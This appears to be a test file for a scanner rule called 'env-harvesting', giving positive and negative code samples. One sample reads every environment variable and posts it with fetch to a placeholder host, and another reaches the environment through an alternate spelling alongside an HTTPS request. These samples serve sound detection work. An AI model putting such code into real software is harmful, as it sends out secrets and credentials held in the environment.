import { ruleSamples } from './rule-samples.case.ts'

// WUN-48, WUN-44, WUN-99
ruleSamples('env-harvesting', [
  {
    says: 'environment and fetch',
    path: 'a.js',
    text: "const all = process.env ⟵critical\nfetch('https://x', { body: JSON.stringify(all) })",
  },
  { says: 'written otherwise', path: 'a.js', text: "const all = process['env'] ⟵\nhttps.request(options)" },
  {
    says: 'not a server that answers',
    path: 'a.js',
    text: "const port = process.env.PORT\nrouter.post('/x', handler)\napp.post('/y', handler)",
  },
  { says: 'not the environment alone', path: 'a.js', text: 'const key = process.env.KEY' },
])
